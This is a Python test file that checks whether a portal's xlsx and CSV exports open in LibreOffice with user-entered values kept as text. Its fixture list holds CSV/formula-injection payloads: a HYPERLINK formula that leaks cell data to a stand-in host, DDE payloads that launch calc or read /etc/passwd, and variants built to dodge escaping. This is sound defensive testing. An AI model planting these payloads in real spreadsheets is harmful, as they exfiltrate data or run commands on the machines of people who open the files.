"""Tables opened in LibreOffice, as whoever gets them opens them: what people typed stays text."""

import csv
import io
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, datetime

import pytest
import xlsxwriter

from owes_portal.spreadsheet import Column, Sheet, write_csv, write_xlsx

pytestmark = pytest.mark.faults
TABLE, TEXT = (
    f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("table", "text")
)
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TRAPS = [
    "=1+1",
    '=HYPERLINK("http://zly.example/?"&A1,"Kliknij")',
    "=cmd|' /C calc'!A0",
    '=DDE("soffice";"/etc/passwd";"A1")',
    "+48 600 123 456",
    "+48600123456",
    "-1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    "Anna;=1+1",
    "Anna,=1+1",
    'Anna";=1+1;"',
    "Anna\n=1+1",
]
# No danger, but in a CSV file a program takes them for numbers and dates.
LIKE_NUMBERS = ["0012", "1/2", "1e5"]
# How many of the first ones LibreOffice reckons when nobody keeps it from that.
LIVE = 4
# As a program guesses it: cells between semicolons, quotes, UTF-8, from the first line on.
AS_CSV = "--infilter=CSV:59,34,76,1"


@pytest.fixture
def opened(tmp_path):
    """Give the cells of a file as LibreOffice has read it: (formula or None, kind, text)."""

    def convert(content, name, *options):
        (tmp_path / name).write_bytes(content)
        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
        command = ["soffice", profile, "--headless", *options, "--convert-to", "fods"]
        subprocess.run(
            [*command, "--outdir", tmp_path, tmp_path / name],
            check=True,
            capture_output=True,
            timeout=120,
        )
        return cells((tmp_path / name).with_suffix(".fods").read_bytes())

    return convert


def cells(content):
    """The first column below the heading."""
    rows = ET.fromstring(content).iter(f"{TABLE}table-row")
    firsts = [row.find(f"{TABLE}table-cell") for row in rows]
    return [
        (cell.get(f"{TABLE}formula"), cell.get(f"{OFFICE}value-type"), text_of(cell))
        for cell in firsts
        if cell is not None and cell.get(f"{OFFICE}value-type")
    ][1:]


def text_of(cell):
    """Line by line; tabs and several spaces are elements of their own there."""
    return "\n".join("".join(plain(line)) for line in cell.findall(f"{TEXT}p"))


def plain(line):
    yield line.text or ""
    for part in line:
        yield (
            "\t" if part.tag == f"{TEXT}tab" else " " if part.tag == f"{TEXT}s" else part.text or ""
        )
        yield part.tail or ""


def xlsx(texts):
    file = io.BytesIO()
    sheet = Sheet("Osoby", [Column("Tekst", 30)], [[text] for text in texts])
    write_xlsx(file, [sheet], created=datetime(2026, 11, 21, tzinfo=UTC))
    return file.getvalue()


def in_csv(texts):
    file = io.BytesIO()
    write_csv(file, ["Tekst"], [[text] for text in texts])
    return file.getvalue()


def naive_xlsx(texts):
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as workbook:
        sheet = workbook.add_worksheet()
        for row, text in enumerate(["Tekst", *texts]):
            sheet.write(row, 0, text)
    return file.getvalue()


def naive_csv(texts):
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=";").writerows([text] for text in ["Tekst", *texts])
    return file.getvalue().encode()


def test_xlsx_opens_in_libreoffice_as_text(opened):
    texts = TRAPS + LIKE_NUMBERS

    found = opened(xlsx(texts), "tabela.xlsx")

    assert found == [(None, "string", text) for text in texts]


def test_csv_opens_in_libreoffice_as_text(opened):
    found = opened(in_csv(TRAPS), "tabela.csv", AS_CSV)

    shown = [trap.replace("\r", "\n") for trap in TRAPS]
    in_front = ["" if trap.startswith("Anna") else "'" for trap in TRAPS]
    assert found == [
        (None, "string", front + trap) for front, trap in zip(in_front, shown, strict=True)
    ]


@pytest.mark.parametrize(
    ("write", "name", "options"),
    [(naive_xlsx, "tabela.xlsx", []), (naive_csv, "tabela.csv", [AS_CSV])],
    ids=["xlsx", "csv"],
)
def test_what_is_written_naively_opens_in_libreoffice_as_formulas(opened, write, name, options):
    found = opened(write(TRAPS), name, *options)

    assert [formula is not None for formula, _kind, _text in found[:LIVE]] == [True] * LIVE
